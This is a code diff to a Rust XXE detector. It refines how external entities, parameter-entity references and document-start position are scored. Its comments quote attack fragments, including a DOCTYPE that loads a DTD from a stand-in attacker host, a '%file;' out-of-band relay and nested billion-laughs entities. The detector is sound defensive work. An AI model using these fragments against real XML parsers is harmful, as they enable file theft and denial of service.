@@ -36,12 +36,30 @@ fn declares_entity(rest: &str) -> bool {
         && (value.starts_with(['"', '\'']) || starts_ci("system") || starts_ci("public"))
 }
 
+/// Does the text after a `%` name a parameter entity and end it with `;` (`%file;`)?
+fn pe_reference(after: &str) -> bool {
+    let name = after
+        .bytes()
+        .take_while(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b':'))
+        .count();
+    name > 0 && after.as_bytes().get(name) == Some(&b';')
+}
+
 impl Xxe {
     fn check(text: &str) -> Option<f32> {
         // Entities and XInclude both need a tag: one memchr rejects almost every value.
         if !text.as_bytes().contains(&b'<') {
             return None;
         }
+        // A document type, its entities and the XML declaration come first in a document:
+        // a parser given lines of text before them (a wiki page quoting an XXE example, a
+        // DTD shown in a reST literal block, `> ` before each line of a reply) stops at
+        // that text. Such a value is recorded, not blocked. A label on the payload's own
+        // line (`test 64_1 <!DOCTYPE x[…`) still counts: a tool's or a test's prefix, not
+        // a document around it. XInclude works anywhere in a fragment and keeps its weight.
+        let head = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
+        let at_start = !head[..head.find('<').unwrap_or(0)].contains(['\n', '\r']);
+        let prolog = |c: f32| if at_start { c } else { c.min(0.5) };
         // An internal entity whose text refers to no other entity (`<!ENTITY nbsp
         // "&#160;">`, `<!ENTITY product "Palisade">` in a note about DTDs) reads nothing and
         // expands once; entities built of entities are billion laughs.
@@ -57,19 +75,23 @@ impl Xxe {
             // (`"%file;"`, the out-of-band read's relay). A DTD's plain parameter entity
             // (`<!ENTITY % additional.inline.elements "">`, a hook for wrapper DTDs) is an
             // internal entity like the rest.
+            // A reference is `%name;`: a `%` before anything else is the value's own text
+            // (`'<!ENTITY e "[resolved: %s]">' % url`, Python formatting the DTD it serves).
             let body = decl[8..].trim_start();
             let body = body.strip_prefix('%').unwrap_or(body);
             if find_ci(decl, "system").is_some()
                 || find_ci(decl, "public").is_some()
-                || body.contains('%')
+                || body
+                    .match_indices('%')
+                    .any(|(i, _)| pe_reference(&body[i + 1..]))
             {
-                return Some(0.95);
+                return Some(prolog(0.95));
             }
             let nested = decl
                 .match_indices('&')
                 .any(|(i, _)| decl.as_bytes().get(i + 1) != Some(&b'#'));
             if nested {
-                return Some(0.75);
+                return Some(prolog(0.75));
             }
         }
         if find_ci(text, "<xi:include").is_some() && find_ci(text, "href").is_some() {
@@ -91,7 +113,7 @@ impl Xxe {
             });
             // Decisive: an XML body is several lines, a document to the registry.
             if encoding.is_some_and(|e| e.starts_with("utf-7") || e.starts_with("utf7")) {
-                return Some(0.95);
+                return Some(prolog(0.95));
             }
         }
         // An external DTD the parser fetches (`<!DOCTYPE x SYSTEM "http://attacker/x.dtd">`):
@@ -136,10 +158,10 @@ impl Xxe {
                         .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
                 });
                 if local {
-                    return Some(0.95);
+                    return Some(prolog(0.95));
                 }
                 if remote && !standard {
-                    return Some(0.8);
+                    return Some(prolog(0.8));
                 }
             }
         }
